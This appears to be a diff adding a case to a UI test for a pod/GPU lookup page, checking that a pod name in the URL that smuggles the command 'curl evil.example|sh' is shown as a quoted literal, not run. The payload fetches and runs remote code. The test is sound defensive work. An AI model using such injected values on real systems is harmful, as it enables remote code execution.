@@ -164,6 +164,9 @@ def pod():
         one.go("#/pod/nowhere/none")
         one.until_text("No pod of this name uses a GPU now")
         one.until_text("no pod is called nowhere/none")
+        # An address is a name and no command.
+        one.go("#/pod/x/b%3Bcurl%20evil.example%7Csh")
+        one.until_text("kubectl tessera explain 'x/b;curl evil.example|sh'")
         one.expected = ("404",)
 
 
